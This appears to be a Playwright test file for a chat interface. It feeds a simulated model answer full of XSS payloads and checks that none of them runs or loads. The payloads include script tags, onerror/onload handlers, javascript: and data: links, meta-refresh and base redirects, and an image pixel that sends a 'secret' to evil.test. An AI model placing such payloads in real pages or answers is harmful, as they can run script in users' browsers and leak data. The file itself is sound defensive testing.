/** A model's words are text: nothing of them runs, loads or leads somewhere else than it says (S4). Scripted: OpenRouter. */
import type { Page } from '@playwright/test'
import { expect, test } from '../setup/e2e-test.ts'

const planted = 'globalThis.planted=1'

const hostileText = `Before.

<script>${planted}</script>

<img src="x" onerror="${planted}">

<svg onload="${planted}"></svg>

<iframe srcdoc="<script>parent.${planted}</script>"></iframe>

<style>@import url(https://evil.test/style.css)</style>

<base href="https://evil.test/">

<meta http-equiv="refresh" content="0;url=https://evil.test/">

[press me](javascript:${planted})

[or me](data:text/html,<script>${planted}</script>)

[honest](https://evil.test/page)

![a picture](https://evil.test/pixel.png?secret)

After.`

/** Looks at each drawing of an answer: what is in the page that could run or load, and how many drawings there were. */
async function watchDrawings(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const drawings = { count: 0, harm: new Set<string>() }
    Object.assign(globalThis, { drawings })
    const look = () => {
      const articles = document.querySelectorAll('article[aria-busy="true"]')
      if (articles.length > 0) drawings.count += 1
      for (const element of [...articles].flatMap(article => [...article.querySelectorAll('*')])) {
        if (/^(?:script|img|iframe|style|base|meta|link|object|embed|form)$/.test(element.localName)) drawings.harm.add(element.localName)
        for (const { name, value } of element.attributes) {
          if (/^on|^(?:src|srcdoc|style)$/.test(name) || /^(?:javascript|data):/.test(value)) drawings.harm.add(`${name} ${value}`)
        }
      }
    }
    new MutationObserver(look).observe(document, { childList: true, characterData: true, attributes: true, subtree: true })
  })
}

test('nothing in an answer runs or loads at any moment of its stream', async ({ chat, page, simulator }) => {
  await simulator.script({ text: hostileText, tokenCharacters: 2, tokensPerSecond: 50 })
  await watchDrawings(page)
  await chat.open()
  await chat.converse('Do your worst.')
  const { count, harm } = await page.evaluate(() => {
    const { count, harm } = Reflect.get(globalThis, 'drawings') as { count: number; harm: Set<string> }
    return { count, harm: [...harm] }
  })
  expect(harm).toEqual([])
  expect(count, 'drawings that were looked at').toBeGreaterThan(10)
  expect(await page.evaluate(() => 'planted' in globalThis)).toBe(false)
})

test('nothing in an answer runs or loads', async ({ chat, page, simulator }) => {
  await simulator.script({
    reasoning: hostileText,
    text: hostileText,
    annotations: [
      { type: 'url_citation', url_citation: { url: `javascript:${planted}`, title: 'A source', start_index: 0, end_index: 1 } }
    ],
    images: [{ type: 'image_url', image_url: { url: 'https://evil.test/image.png' } }]
  })
  await chat.open()
  await chat.converse(hostileText)
  const answer = chat.answer()

  const expectHarmless = async () => {
    await expect(answer.getByText('After.').last()).toBeVisible()
    await expect(answer.getByText(/^press me \[blocked link\]$/).last()).toBeVisible()
    await expect(answer.getByText('Image not loaded: a picture').last()).toBeVisible()
    const addresses = await answer.getByRole('link').evaluateAll(links => links.map(link => link.getAttribute('href')))
    expect(addresses.filter(address => !address?.startsWith('https://evil.test/') && !address?.startsWith('#'))).toEqual([])
    await expect(answer.getByRole('img')).toHaveCount(0)
    await expect(answer.getByRole('link', { name: 'honest (evil.test)' }).last()).toBeVisible()
    await expect(answer.getByText('The model named an image on another server.')).toBeVisible()
    expect(await page.evaluate(() => 'planted' in globalThis)).toBe(false)
  }
  await answer.getByText(/^Thought for/).click()
  await expectHarmless()
  await answer
    .getByText(/^press me/)
    .last()
    .click()
  await page.reload()
  await answer.getByText(/^Thought for/).click()
  await expectHarmless()
  expect(await chat.textOf(answer), 'and nothing of it is lost').toBe(hostileText)
})
